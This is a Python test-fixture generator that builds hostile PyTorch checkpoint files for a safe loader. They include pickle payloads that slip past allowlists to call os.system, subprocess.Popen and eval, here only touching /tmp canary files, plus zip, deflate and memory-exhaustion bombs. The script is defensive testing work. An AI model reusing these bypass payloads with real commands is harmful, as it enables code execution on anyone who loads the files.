#!/usr/bin/env python3
"""Generate the hostile-file corpus under ``tests/fixtures/hostile/``.

Standard library only (no torch): every pickle is written opcode by opcode and
every zip archive byte by byte, so the files are byte-identical on every run
(the deflate streams depend on the zlib version only).  The script

* deletes its previous outputs (the whole ``tests/fixtures/hostile/`` folder
  and the fuzz seeds it copied last time, found through the old manifest),
* writes one file per hostile class plus ``manifest.json`` and ``README.md``,
* checks every file: zips open with Python's zipfile, every pickle
  disassembles with pickletools and loads with a non-executing unpickler,
  the legacy stream parses to its end,
* proves the code-running payloads: it loads each ``data.pkl`` with Python's
  real ``pickle.Unpickler`` (only ``torch.*`` globals and persistent ids are
  replaced by dummies) and asserts the payload created its canary file under
  /tmp (then deletes it),
* copies every file of at most 1 MB into ``convert/fuzz/seeds/checkpoint/``
  and every zip's ``data.pkl`` into ``convert/fuzz/seeds/pickle/<file>.pkl``.

Usage::

    python3 scripts/make_hostile.py
"""

import hashlib
import io
import json
import os
import pickle
import pickletools
import shutil
import struct
import sys
import time
import warnings
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "fixtures" / "hostile"
SEEDS_CKPT = ROOT / "convert" / "fuzz" / "seeds" / "checkpoint"
SEEDS_PICKLE = ROOT / "convert" / "fuzz" / "seeds" / "pickle"
SEED_LIMIT = 1 << 20

# An innocent-looking stdlib module whose attribute `subprocess` is the
# subprocess module (others: webbrowser, ctypes.util, asyncio.subprocess,
# ensurepip, venv), and one whose `_os` is os (others: tempfile, threading).
SUBPROCESS_VIA = "imaplib"
OS_VIA = "argparse"

WEIGHT = struct.pack("<4f", 0.0, 1.0, 2.0, 3.0)
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_STORAGES = 60_000


def canary(stem: str, n: int = 1) -> str:
    return f"/tmp/torchless-hostile-canary-{stem}" + ("" if n == 1 else f"-{n}")


# --------------------------------------------------------------------------
# opcode-level pickle writer
# --------------------------------------------------------------------------


class P:
    """Appends pickle opcodes to a buffer.  Memo indices are handed out in
    order; ``cached_*`` helpers memoize a global/string on first use."""

    def __init__(self, proto: int = 2):
        self.b = bytearray()
        self.n = 0
        self.cache: dict = {}
        self.proto = proto
        self.PROTO(proto)

    # -- basic opcodes
    def PROTO(self, n):
        self.b += b"\x80" + bytes([n])
        self.proto = n
        return self

    def op(self, code: bytes):
        self.b += code
        return self

    def MARK(self):
        return self.op(b"(")

    def STOP(self):
        return self.op(b".")

    def POP(self):
        return self.op(b"0")

    def NONE(self):
        return self.op(b"N")

    def FALSE(self):
        return self.op(b"\x89")

    def EMPTY_DICT(self):
        return self.op(b"}")

    def EMPTY_LIST(self):
        return self.op(b"]")

    def EMPTY_TUPLE(self):
        return self.op(b")")

    def TUPLE(self):
        return self.op(b"t")

    def TUPLE1(self):
        return self.op(b"\x85")

    def TUPLE2(self):
        return self.op(b"\x86")

    def LIST(self):
        return self.op(b"l")

    def APPENDS(self):
        return self.op(b"e")

    def SETITEMS(self):
        return self.op(b"u")

    def REDUCE(self):
        return self.op(b"R")

    def BUILD(self):
        return self.op(b"b")

    def NEWOBJ(self):
        return self.op(b"\x81")

    def BINPERSID(self):
        return self.op(b"Q")

    def put(self) -> int:
        i = self.n
        self.n += 1
        if i < 256:
            self.b += b"q" + bytes([i])
        else:
            self.b += b"r" + struct.pack("<I", i)
        return i

    def memoize(self) -> int:  # protocol 4 MEMOIZE
        i = self.n
        self.n += 1
        self.b += b"\x94"
        return i

    def get(self, i: int):
        if i < 256:
            self.b += b"h" + bytes([i])
        else:
            self.b += b"j" + struct.pack("<I", i)
        return self

    def str(self, s: str):
        e = s.encode("utf-8")
        if self.proto >= 4 and len(e) < 256:
            self.b += b"\x8c" + bytes([len(e)]) + e
        else:
            self.b += b"X" + struct.pack("<I", len(e)) + e
        return self

    def int(self, v: int):
        if 0 <= v < 256:
            self.b += b"K" + bytes([v])
        elif 0 <= v < 65536:
            self.b += b"M" + struct.pack("<H", v)
        elif -(2**31) <= v < 2**31:
            self.b += b"J" + struct.pack("<i", v)
        else:
            n = (v.bit_length() + 8) // 8
            self.b += b"\x8a" + bytes([n]) + v.to_bytes(n, "little", signed=True)
        return self

    def ints(self, vals):
        if len(vals) == 1:
            self.int(vals[0]).TUPLE1()
        elif len(vals) == 2:
            self.int(vals[0]).int(vals[1]).TUPLE2()
        else:
            self.MARK()
            for v in vals:
                self.int(v)
            self.TUPLE()
        return self

    def GLOBAL(self, mod: str, name: str):
        self.b += b"c" + mod.encode() + b"\n" + name.encode() + b"\n"
        return self

    def STACK_GLOBAL(self, mod: str, name: str):
        assert self.proto >= 4
        self.str(mod).str(name)
        self.b += b"\x93"
        return self

    def cached(self, key, emit) -> "P":
        if key in self.cache:
            return self.get(self.cache[key])
        emit()
        self.cache[key] = self.put()
        return self

    def cached_global(self, mod, name):
        return self.cached(("g", mod, name), lambda: self.GLOBAL(mod, name))

    def cached_str(self, s):
        return self.cached(("s", s), lambda: self.str(s))

    # -- torch's tensor layout
    def pid(self, key: str, numel: int, stype="FloatStorage", legacy=False):
        self.MARK().cached_str("storage").cached_global("torch", stype)
        self.str(key).cached_str("cpu").int(numel)
        if legacy:
            self.NONE()
        return self.TUPLE()

    def tensor(self, key, numel, size, stride, offset=0, stype="FloatStorage", legacy=False):
        """``torch._utils._rebuild_tensor_v2(storage, offset, size, stride,
        False, OrderedDict())`` with ``storage`` a persistent id."""
        self.cached_global("torch._utils", "_rebuild_tensor_v2")
        self.MARK()
        self.pid(key, numel, stype, legacy).BINPERSID()
        self.int(offset).ints(size).ints(stride).FALSE()
        self.cached_global("collections", "OrderedDict").EMPTY_TUPLE().REDUCE()
        return self.TUPLE().REDUCE()

    def weight(self):
        """The real 4-float tensor stored in data/0."""
        return self.tensor("0", 4, [4], [1])

    def bytes(self) -> bytes:
        return bytes(self.b)


def state_dict(items, proto=2) -> bytes:
    """A dict pickle; ``items`` = [(name, fn(P) that pushes the value)]."""
    p = P(proto)
    p.EMPTY_DICT().put()
    p.MARK()
    for name, fn in items:
        p.str(name)
        fn(p)
    p.SETITEMS().STOP()
    return p.bytes()


# --------------------------------------------------------------------------
# hand-written zip archives
# --------------------------------------------------------------------------

DOS_TIME, DOS_DATE = 0, (0 << 9) | (1 << 5) | 1  # 1980-01-01 00:00


class Rec:
    def __init__(self, name, payload, method=0, crc=None, usize=None, zip64=False):
        self.name = name
        self.payload = payload  # bytes as stored in the archive
        self.method = method
        self.crc = zlib.crc32(payload) if crc is None else crc
        self.usize = len(payload) if usize is None else usize
        self.zip64 = zip64


def zip_bytes(recs, align=64) -> bytes:
    """Local headers + data, central directory, classic EOCD.  ``zip64``
    records put 0xFFFFFFFF in both 32-bit size fields of the local and central
    headers and the real (or claimed) sizes in a zip64 extra field (0x0001).
    With ``align``, every record's data starts on a multiple of ``align``
    (padding in an extra field 0x4246 'FB' filled with 'Z', as torch's
    PyTorchFileWriter does)."""
    out = bytearray()
    central = bytearray()
    for r in recs:
        nb = r.name.encode()
        off = len(out)
        csize = len(r.payload)
        ver = 45 if r.zip64 else 20
        if r.zip64:
            lsizes = (0xFFFFFFFF, 0xFFFFFFFF)
            lextra = struct.pack("<HHQQ", 0x0001, 16, r.usize, csize)
            cextra = struct.pack("<HHQQ", 0x0001, 16, r.usize, csize)
        else:
            lsizes = (csize, r.usize)
            lextra = cextra = b""
        if align:
            start = off + 30 + len(nb) + len(lextra) + 4
            pad = (-start) % align
            lextra += struct.pack("<HH", 0x4246, pad) + b"Z" * pad
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, ver, 0, r.method, DOS_TIME, DOS_DATE,
            r.crc, lsizes[0], lsizes[1], len(nb), len(lextra),
        )
        out += nb + lextra + r.payload
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, ver, ver, 0, r.method, DOS_TIME,
            DOS_DATE, r.crc, lsizes[0], lsizes[1], len(nb), len(cextra), 0, 0, 0,
            0, off,
        )
        central += nb + cextra
    cd_off = len(out)
    out += central
    n = len(recs)
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), cd_off, 0)
    return bytes(out)


def torch_zip(data_pkl: bytes, storages=(), root="archive", minimal=False, align=64):
    """Records in torch.save's order.  ``storages`` = [(key, Rec-or-bytes)]."""
    recs = [Rec(f"{root}/data.pkl", data_pkl)]
    if not minimal:
        recs += [Rec(f"{root}/.format_version", b"1"),
                 Rec(f"{root}/.storage_alignment", b"64")]
    recs.append(Rec(f"{root}/byteorder", b"little"))
    for key, data in storages:
        if isinstance(data, Rec):
            data.name = f"{root}/data/{key}"
            recs.append(data)
        else:
            recs.append(Rec(f"{root}/data/{key}", data))
    recs.append(Rec(f"{root}/version", b"3\n"))
    return zip_bytes(recs, align=align)


# --------------------------------------------------------------------------
# checks
# --------------------------------------------------------------------------


class _DummyBase:
    def __init__(self, *a, **k):
        pass

    def __call__(self, *a, **k):
        return self

    def __setstate__(*a):
        pass


def _dummy(name):
    return type(name.replace(".", "_"), (_DummyBase,), {})


class InertUnpickler(pickle.Unpickler):
    """Executes nothing: every global is a fresh dummy class."""

    def find_class(self, mod, name):
        return _dummy(f"{mod}.{name}")

    def persistent_load(self, pid):
        return ("storage", tuple(pid))


class NotProvable(Exception):
    pass


class ProveUnpickler(pickle.Unpickler):
    """Python's real unpickler; only torch globals and persistent ids are
    replaced (torch is not installed)."""

    def find_class(self, mod, name):
        if mod == "torch" or mod.startswith("torch."):
            if (mod, name) in {("torch._utils", "_rebuild_tensor_v2"),
                               ("torch", "FloatStorage")}:
                return _dummy(f"{mod}.{name}")
            raise NotProvable(f"{mod}.{name} needs torch")
        return super().find_class(mod, name)

    def persistent_load(self, pid):
        return ("storage", tuple(pid))


def data_pkl_of(path: Path) -> bytes:
    with zipfile.ZipFile(path) as z:
        name = next(n for n in z.namelist() if n.endswith("/data.pkl"))
        return z.read(name)


def check_pickle(data: bytes):
    pickletools.dis(data, out=io.StringIO())
    InertUnpickler(io.BytesIO(data)).load()


def prove(path: Path, canaries) -> bool:
    """Load ``path``'s data.pkl with the real unpickler; True when every
    canary appeared (they are deleted afterwards)."""
    for c in canaries:
        if os.path.exists(c):
            os.remove(c)
    data = data_pkl_of(path)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            obj = ProveUnpickler(io.BytesIO(data)).load()
            del obj
        except NotProvable:
            return False
        except Exception:
            pass  # several payloads raise after they have run
        deadline = time.time() + 3
        while time.time() < deadline and not all(os.path.exists(c) for c in canaries):
            time.sleep(0.05)
    ok = all(os.path.exists(c) for c in canaries)
    for c in canaries:
        if os.path.exists(c):
            os.remove(c)
    return ok


# --------------------------------------------------------------------------
# corpus
# --------------------------------------------------------------------------

MANIFEST: list[dict] = []
README: list[tuple[str, str]] = []
PT_COMMANDS = ["convert", "inspect", "classify", "embed", "generate"]


def note(name, cls, readme, *, expect=None, expect_ok=False, commands=None):
    """Records a file already written in the manifest and the README."""
    MANIFEST.append({"file": name, "class": cls, "commands": commands or PT_COMMANDS,
                     "expect": expect, "expect_ok": expect_ok, "proven": False,
                     "canary": False, "canary_paths": []})
    README.append((name, readme, False))


def emit(name, data: bytes, cls, readme, *, expect=None, expect_ok=False,
         canaries=(), prove_it=False, commands=None, extra=None):
    path = OUT / name
    path.write_bytes(data)
    if zipfile.is_zipfile(path) and name.endswith(".pt"):
        check_pickle(data_pkl_of(path))
    proven = False
    if prove_it:
        proven = prove(path, canaries)
    entry = {
        "file": name,
        "class": cls,
        "commands": commands or PT_COMMANDS,
        "expect": expect,
        "expect_ok": expect_ok,
        "proven": proven,
        "canary": bool(canaries),
        "canary_paths": list(canaries),
    }
    if extra:
        entry.update(extra)
    MANIFEST.append(entry)
    README.append((name, readme, proven))
    return path


def weight_and(payload, proto=4):
    """data.pkl = {'weight': <4 floats in data/0>, 'payload': <payload>}."""
    return state_dict([("weight", P.weight), ("payload", payload)], proto)


def prelude(p: P, emit_global) -> int:
    """Push a global, memoize it and pop it again, so that it is the first
    non-torch global in the stream; returns its memo index."""
    emit_global(p)
    i = p.put()
    p.POP()
    return i


def make_code_execution():
    cls = "code-execution"

    # 1 ---------------------------------------------------------------
    c = canary("dotted_stack_global")

    def pl(p):
        p.STACK_GLOBAL(OS_VIA, "_os.system").str(f"touch {c}").TUPLE1().REDUCE()

    emit("dodge_dotted_stack_global.pt", torch_zip(weight_and(pl), [("0", WEIGHT)]), cls,
         f"`payload` = STACK_GLOBAL `('{OS_VIA}', '_os.system')` REDUCE `('touch {c}',)` "
         "(protocol 4). Python resolves the dotted name with getattr: `argparse._os` is the "
         "os module, so this is `os.system`. A name check on the module part only "
         "(`argparse` looks harmless) lets it through. torchless must refuse dotted names "
         "(or resolve them and refuse `os.system`).",
         expect="os.system", canaries=[c], prove_it=True)

    # 2 ---------------------------------------------------------------
    c = canary("cpp_extension_popen")

    def pl(p):
        p.STACK_GLOBAL("torch.utils.cpp_extension", "subprocess.Popen")
        p.EMPTY_LIST().MARK().str("touch").str(c).APPENDS().TUPLE1().REDUCE()

    emit("dodge_cpp_extension_popen.pt", torch_zip(weight_and(pl), [("0", WEIGHT)]), cls,
         "`payload` = STACK_GLOBAL `('torch.utils.cpp_extension', 'subprocess.Popen')` "
         f"REDUCE `(['touch', '{c}'],)`: torch's own cpp_extension module imports subprocess, "
         "so a check that trusts every `torch.*` module runs `subprocess.Popen`. Cannot be "
         "proven here (needs torch installed).",
         expect="subprocess.Popen", canaries=[c], prove_it=True)

    # 3 ---------------------------------------------------------------
    c = canary("newobj_dotted")

    def pl(p):
        p.STACK_GLOBAL(SUBPROCESS_VIA, "subprocess.Popen")
        p.EMPTY_LIST().MARK().str("touch").str(c).APPENDS().TUPLE1().NEWOBJ()

    emit("dodge_newobj_dotted.pt", torch_zip(weight_and(pl), [("0", WEIGHT)]), cls,
         f"`payload` = STACK_GLOBAL `('{SUBPROCESS_VIA}', 'subprocess.Popen')` then NEWOBJ "
         f"with `(['touch', '{c}'],)`. NEWOBJ only calls `Popen.__new__` (object.__new__), so "
         "Python builds an uninitialised Popen and runs nothing -- but a reader that checks "
         "names only for REDUCE and not for NEWOBJ (or not through dotted names) must still "
         "refuse `subprocess.Popen`.",
         expect="subprocess.Popen", canaries=[c], prove_it=True)

    # 4 ---------------------------------------------------------------
    c = canary("reconstructor")

    def pl(p):
        pop = prelude(p, lambda q: q.STACK_GLOBAL(SUBPROCESS_VIA, "subprocess.Popen"))
        p.GLOBAL("copyreg", "_reconstructor")
        p.MARK().get(pop).get(pop)
        p.EMPTY_LIST().MARK().str("touch").str(c).APPENDS()
        p.TUPLE().REDUCE()

    emit("dodge_reconstructor.pt", torch_zip(weight_and(pl), [("0", WEIGHT)]), cls,
         f"`payload` = `copyreg._reconstructor(Popen, Popen, ['touch', '{c}'])` with "
         f"`Popen` = STACK_GLOBAL `('{SUBPROCESS_VIA}', 'subprocess.Popen')` (pushed first "
         "and memoized, so it is the first non-torch global; then BINGET twice). "
         "`_reconstructor` calls `object.__new__(cls, state)` and then "
         "`base.__init__(obj, state)`: Popen runs `state` as argv. `copyreg._reconstructor` "
         "is what protocol 0-1 pickles of plain objects use, so it is a tempting entry for an "
         "allowlist. (cls must be Popen or a subclass: `Popen.__init__` calls "
         "`self._execute_child`.)",
         expect="subprocess.Popen", canaries=[c], prove_it=True)

    # 5 ---------------------------------------------------------------
    c = canary("defaultdict")

    def pl(p):
        sysm = prelude(p, lambda q: q.STACK_GLOBAL(OS_VIA, "_os.system"))
        # random.Random.__new__() then BUILD(state) -> Random.__setstate__(state)
        # -> state[0] on a defaultdict -> __missing__ -> factory()
        p.STACK_GLOBAL("random", "Random").EMPTY_TUPLE().NEWOBJ()
        p.STACK_GLOBAL("collections", "defaultdict")
        p.STACK_GLOBAL("functools", "partial").get(sysm).str(f"touch {c}").TUPLE2().REDUCE()
        p.TUPLE1().REDUCE()
        p.BUILD()

    def pl2(p):
        p.STACK_GLOBAL("collections", "defaultdict")
        p.GLOBAL("posixpath", "os.system").TUPLE1().REDUCE()

    data = state_dict([("weight", P.weight), ("payload", pl), ("payload2", pl2)], 4)
    emit("dodge_defaultdict.pt", torch_zip(data, [("0", WEIGHT)]), cls,
         f"`payload` = `random.Random()` (NEWOBJ) BUILD with state "
         f"`collections.defaultdict(functools.partial(os.system, 'touch {c}'))`, where "
         f"`os.system` is STACK_GLOBAL `('{OS_VIA}', '_os.system')` pushed first and memoized. "
         "BUILD calls `Random.__setstate__(state)`, which reads `state[0]`: the missing key "
         "makes the defaultdict call its factory, so unpickling alone runs the command "
         "(then Random raises ValueError, too late). `payload2` = "
         "`defaultdict(<GLOBAL 'posixpath' 'os.system'>)` (never triggered). The factory "
         "of a defaultdict, and any object handed to a `__setstate__`, must be checked like "
         "a REDUCE callable.",
         expect="os.system", canaries=[c], prove_it=True)

    # 6 ---------------------------------------------------------------
    def pl(p):
        p.GLOBAL("collections", "OrderedDict")
        p.NONE().EMPTY_DICT().str("fromkeys").NONE().op(b"s").TUPLE2()
        p.BUILD()

    emit("dodge_build_setstate.pt", torch_zip(weight_and(pl), [("0", WEIGHT)]), cls,
         "`payload` = GLOBAL `collections OrderedDict` (an allowed class) and BUILD with "
         "state `(None, {'fromkeys': None})`: BUILD whose target is a class (or module, or "
         "function) object instead of an instance. With slot state Python does "
         "`setattr(target, k, v)`, i.e. it monkey-patches a global class for the rest of the "
         "process (here OrderedDict is a C type, so Python raises TypeError; a Python class "
         "or module would be patched). torchless must refuse BUILD on anything that is not "
         "an object it created.",
         expect="BUILD")

    # 7 ---------------------------------------------------------------
    c = canary("module_alias")

    def pl(p):
        p.GLOBAL("posixpath", "os.system").str(f"touch {c}").TUPLE1().REDUCE()

    emit("dodge_module_alias.pt", torch_zip(weight_and(pl), [("0", WEIGHT)]), cls,
         f"`payload` = GLOBAL `posixpath os.system` REDUCE `('touch {c}',)` under PROTO 4: "
         "with protocol >= 4 Python resolves dotted names for the text GLOBAL opcode too, and "
         "`posixpath` (= os.path) has the attribute `os`. A check on `(module, name)` pairs "
         "that only lists `os`/`posix` modules misses it.",
         expect="os.system", canaries=[c], prove_it=True)

    c = canary("nt_alias")

    def pl(p):
        p.GLOBAL("nt", "system").str(f"touch {c}").TUPLE1().REDUCE()

    emit("dodge_nt_alias.pt", torch_zip(weight_and(pl), [("0", WEIGHT)]), cls,
         f"`payload` = GLOBAL `nt system` REDUCE `('touch {c}',)`: `nt` is the Windows name of "
         "the module behind os (pickle writes `nt system` for os.system on Windows, `posix "
         "system` on Linux). Not provable on Linux (no `nt` module); runs on Windows.",
         expect="system", canaries=[c], prove_it=True)

    c1, c2 = canary("builtin_alias"), canary("builtin_alias", 2)

    def pl(p):
        p.STACK_GLOBAL("builtins", "eval.__call__")
        p.str(f"open({c1!r}, 'w').close()").TUPLE1().REDUCE()

    def pl2(p):
        p.PROTO(2)
        p.GLOBAL("__builtin__", "eval").str(f"open({c2!r}, 'w').close()").TUPLE1().REDUCE()

    data = state_dict([("weight", P.weight), ("payload", pl), ("payload2", pl2)], 4)
    emit("dodge_builtin_alias.pt", torch_zip(data, [("0", WEIGHT)]), cls,
         "`payload` = STACK_GLOBAL `('builtins', 'eval.__call__')` (a method-wrapper of eval; "
         "calling it is calling eval) REDUCE with an `open(canary, 'w')` expression, under "
         "PROTO 4. Then the stream switches protocol mid-way (a second PROTO 2 opcode, which "
         "Python accepts anywhere) and `payload2` = GLOBAL `__builtin__ eval` REDUCE: the "
         "Python 2 module name, which Python maps to builtins only while the current "
         "protocol is < 3. Both run (two canaries).",
         expect="builtins.eval", canaries=[c1, c2], prove_it=True)

    c = canary("dunder_walk")

    def pl(p):
        g = prelude(p, lambda q: q.STACK_GLOBAL("collections", "namedtuple.__globals__"))
        p.STACK_GLOBAL("collections", "OrderedDict.get")
        p.STACK_GLOBAL("collections", "OrderedDict.get")
        p.get(g).str("__builtins__").TUPLE2().REDUCE()
        p.str("eval").TUPLE2().REDUCE()
        p.str(f"open({c!r}, 'w').close()").TUPLE1().REDUCE()

    emit("dodge_dunder_walk.pt", torch_zip(weight_and(pl), [("0", WEIGHT)]), cls,
         "`payload` walks dunder attributes from an allowed module: STACK_GLOBAL "
         "`('collections', 'namedtuple.__globals__')` (collections' module dict; pushed "
         "first and memoized), then `OrderedDict.get(OrderedDict.get(G, '__builtins__'), "
         "'eval')(\"open(canary, 'w').close()\")` -- `collections.OrderedDict.get` is "
         "dict.get, callable on any dict, and REDUCE may call any object on the stack. "
         "torchless must refuse dunder attributes (and dotted names) in globals.",
         expect="__globals__", canaries=[c], prove_it=True)

    def pl(p):
        p.STACK_GLOBAL("collections", "OrderedDict.__init__.__globals__")
        p.str("os").TUPLE1().REDUCE()

    emit("dodge_dunder_walk_ordereddict.pt", torch_zip(weight_and(pl), [("0", WEIGHT)]), cls,
         "The literal variant from the issue: STACK_GLOBAL `('collections', "
         "'OrderedDict.__init__.__globals__')` REDUCE `('os',)`. In CPython OrderedDict is "
         "a C type, its `__init__` is a slot wrapper without `__globals__`, so Python raises "
         "AttributeError; the name alone must be refused.",
         expect="__globals__")


def make_resource_bombs():
    cls = "resource"

    # 8 zip64 lying size --------------------------------------------------
    real = bytes(16)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = co.compress(real) + co.flush()
    bomb = Rec("", comp, method=8, crc=zlib.crc32(real), usize=2**40, zip64=True)
    data = state_dict([("weight", lambda p: p.tensor("1", 4, [4], [1])),
                       ("bomb", lambda p: p.tensor("0", 2**38, [2**38], [1]))], 2)
    path = emit("zip64_lying_size.pt",
                torch_zip(data, [("0", bomb), ("1", WEIGHT)], minimal=True, align=0),
                cls,
                "Hand-built zip (no alignment padding): `archive/data.pkl`, `byteorder`, "
                f"`data/0`, `data/1`, `version`. `data/0` is DEFLATE ({len(comp)} bytes that "
                "inflate to 16 zero bytes, CRC-32 of those 16 bytes) but both its local and "
                "central headers have 0xFFFFFFFF in the size fields and a zip64 extra field "
                "claiming an uncompressed size of 2**40 (1 TiB); `data.pkl` says `bomb` is a "
                "FloatStorage of 2**38 elements (consistent with the claim). `weight` is 4 "
                "floats in `data/1` (stored). Python's zipfile opens it, reports file_size "
                "2**40 and, reading it, returns the 16 bytes without complaint. A reader that "
                "preallocates the declared size asks for 1 TiB; torchless must compare the "
                "claim with its budget (and never trust it for allocation).",
                expect="can inflate to")
    with zipfile.ZipFile(path) as z:
        assert z.getinfo("archive/data/0").file_size == 2**40
        assert z.read("archive/data/1") == WEIGHT

    # 9 shared sub-objects -------------------------------------------------
    def bomb(p):
        w = p.cache[("w",)]
        p.MARK().get(w).LIST()
        prev = p.put()
        for _ in range(40):
            p.POP()  # keep only the newest list on the stack
            p.MARK().get(prev).get(prev).LIST()
            prev = p.put()

    def weight_memo(p):
        p.weight()
        p.cache[("w",)] = p.put()

    emit("shared_subobjects.pt",
         torch_zip(state_dict([("weight", weight_memo), ("bomb", bomb)], 2), [("0", WEIGHT)]),
         cls,
         "`bomb` = L40 where L0 = [weight] and L(i) = [L(i-1), L(i-1)] through the memo "
         "(BINPUT/BINGET): 41 small lists, but 2**40 paths from the root to the weight "
         "tensor. A reader that walks the tree without remembering visited objects (naming "
         "`bomb.0.1.0...`, counting tensors, copying values) never finishes. torchless must "
         "bound the walk.",
         expect="budget")

    # 10 stride-0 expansions -----------------------------------------------
    N = 268_435_455  # just under 1 GiB of float32

    items = [("weight", P.weight)]
    for i in range(4):
        items.append((f"expanded{i}", lambda p, k=str(i + 1): p.tensor(k, 1, [N], [0])))
    emit("stride0_many.pt",
         torch_zip(state_dict(items, 2),
                   [("0", WEIGHT)] + [(str(i + 1), struct.pack("<f", i + 1)) for i in range(4)]),
         cls,
         f"`expanded0..3`: each a 1-element storage (`data/1..4`) viewed with size [{N}] and "
         f"stride [0] -- {N * 4} bytes of output each, ~4 GiB in total from a 2 KB file. "
         "torchless must check the planned output size against its budget before writing.",
         expect="budget")

    p = P(2)
    p.EMPTY_DICT().put()
    p.MARK().str("weight").weight().SETITEMS()
    pid = None
    for start in range(0, 1000, 100):
        p.MARK()
        for i in range(start, start + 100):
            p.str(f"e{i:03d}")
            p.cached_global("torch._utils", "_rebuild_tensor_v2").MARK()
            if pid is None:
                p.pid("1", 1)
                pid = p.put()
            else:
                p.get(pid)
            p.BINPERSID().int(0).ints([N]).ints([0]).FALSE()
            p.cached_global("collections", "OrderedDict").EMPTY_TUPLE().REDUCE()
            p.TUPLE().REDUCE()
        p.SETITEMS()
    p.STOP()
    emit("stride0_huge.pt",
         torch_zip(p.bytes(), [("0", WEIGHT), ("1", struct.pack("<f", 1.0))]), cls,
         f"`e000..e999`: 1000 tensors over the same 1-element storage `data/1`, each size "
         f"[{N}] stride [0] (the persistent-id tuple is memoized and re-used with BINGET + "
         "BINPERSID): ~1 TiB of planned output. Must be refused up front, not after writing "
         "a few hundred GB.",
         expect="budget")

    # 11 list copy bomb -----------------------------------------------------
    LEN, COPIES = 100_000, 50_000
    p = P(2)
    p.EMPTY_DICT().put()
    p.MARK().str("weight").weight()
    p.str("bomb")
    p.GLOBAL("builtins", "list")
    lst = p.put()
    p.POP()
    p.MARK().op(b"N" * LEN).LIST()
    big = p.put()
    p.POP()
    p.EMPTY_LIST()
    for start in range(0, COPIES, 1000):
        p.MARK()
        for _ in range(1000):
            p.get(lst).get(big).TUPLE1().REDUCE()
        p.APPENDS()
    p.SETITEMS().STOP()
    emit("list_copy_bomb.pt", torch_zip(p.bytes(), [("0", WEIGHT)]), cls,
         f"A list of {LEN} Nones (memoized), then `builtins.list(L)` REDUCE {COPIES} times, "
         f"every copy appended to `bomb`: {LEN * COPIES:.1e} list cells from a "
         f"{len(p.b) // 1024} KB pickle (Python would need ~{LEN * COPIES * 8 // 2**30} GiB). "
         "A reader that copies sequences on REDUCE of list/tuple/set must charge the copy to "
         "its budget.",
         expect="budget")

    # 12 deflate bomb -------------------------------------------------------
    SIZE = 1 << 30
    co = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    chunk = bytes(1 << 24)
    parts, crc = [], 0
    for _ in range(SIZE // len(chunk)):
        parts.append(co.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(co.flush())
    comp = b"".join(parts)
    rec = Rec("", comp, method=8, crc=crc, usize=SIZE)
    data = state_dict([("weight", P.weight),
                       ("bomb", lambda p: p.tensor("1", SIZE // 4, [SIZE // 4], [1]))], 2)
    emit("deflate_bomb.pt", torch_zip(data, [("0", WEIGHT), ("1", rec)]), cls,
         f"`data/1` is a DEFLATE record of {len(comp)} bytes that really inflates to "
         f"{SIZE} zero bytes (1 GiB; sizes and CRC-32 in the headers are all correct, no "
         f"zip64 needed), used by `bomb` as a FloatStorage of {SIZE // 4} elements. "
         "Nothing lies: the file is merely ~1000x smaller than what it decodes to, and "
         "torchless must count the inflated size against its budget before inflating.",
         expect="budget")

    # 13 legacy stream with 300k storages ------------------------------------
    make_legacy_many()


def make_legacy_many():
    n = LEGACY_STORAGES
    keys = [str(i) for i in range(n)]
    out = bytearray()
    out += pickle.dumps(LEGACY_MAGIC, protocol=2)
    out += pickle.dumps(1001, protocol=2)
    out += pickle.dumps({"protocol_version": 1001, "little_endian": True,
                         "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    p = P(4)
    p.EMPTY_DICT().memoize()
    # memo the constants once
    for i, k in enumerate(keys):
        if i % 1000 == 0:
            p.MARK()
        p.str(k)
        kidx = p.memoize()  # the name doubles as the storage key
        p.cached_global("torch._utils", "_rebuild_tensor_v2").MARK()
        p.MARK().cached_str("storage").cached_global("torch", "FloatStorage").get(kidx)
        p.cached_str("cpu").int(1).NONE().TUPLE().BINPERSID()
        p.int(0)
        p.cached(("size",), lambda: p.ints([1])).get(p.cache[("size",)]).FALSE()
        # one OrderedDict() shared by all tensors (memoized), like any other
        # object pickled twice
        p.cached(("hooks",), lambda: p.cached_global("collections", "OrderedDict")
                 .EMPTY_TUPLE().REDUCE())
        p.TUPLE().REDUCE()
        if i % 1000 == 999 or i == n - 1:
            p.SETITEMS()
    p.STOP()
    out += p.bytes()
    order = sorted(keys)  # torch writes sorted(serialized_storages.keys())
    q = P(4)
    q.EMPTY_LIST()
    for s in range(0, n, 1000):
        q.MARK()
        for k in order[s:s + 1000]:
            q.str(k)
        q.APPENDS()
    q.STOP()
    out += q.bytes()
    for k in order:
        out += struct.pack("<q", 1) + struct.pack("<f", float(int(k)))
    data = bytes(out)
    emit("legacy_many_storages.pt", data, "resource",
         f"A valid legacy (non-zip) torch.save stream: magic pickle, 1001, sys_info, the "
         f"main pickle (protocol 4, no FRAMEs: SHORT_BINUNICODE/MEMOIZE) of a dict with "
         f"{n} float32 tensors `'0'..'{n - 1}'`, each of shape [1] on its own 1-element "
         "storage whose key is the tensor name (legacy persistent id `('storage', "
         "FloatStorage, key, 'cpu', 1, None)`; the key string is MEMOIZEd as the dict key "
         "and re-used with LONG_BINGET; the `(1,)` size/stride tuple and the "
         "`OrderedDict()` hooks object are memoized once and shared), the sorted storage "
         "key list (protocol 4), then per key "
         "int64 count 1 + one float (= the key's value). Not an attack: a big valid file "
         "that must convert in seconds -- per-storage work must not be quadratic (e.g. a "
         "`keys.contains(k)` scan of a Vec per key is 9e10 comparisons).",
         expect=None, expect_ok=True, commands=["convert", "inspect"])
    check_legacy(OUT / "legacy_many_storages.pt", n)


def check_legacy(path: Path, n: int):
    f = io.BytesIO(path.read_bytes())
    assert pickle.load(f) == LEGACY_MAGIC
    assert pickle.load(f) == 1001
    pickle.load(f)
    seen = {}

    class U(InertUnpickler):
        def persistent_load(self, pid):
            seen[pid[2]] = pid
            return pid[2]

    obj = U(f).load()
    assert len(obj) == n and len(seen) == n
    keys = pickle.load(f)
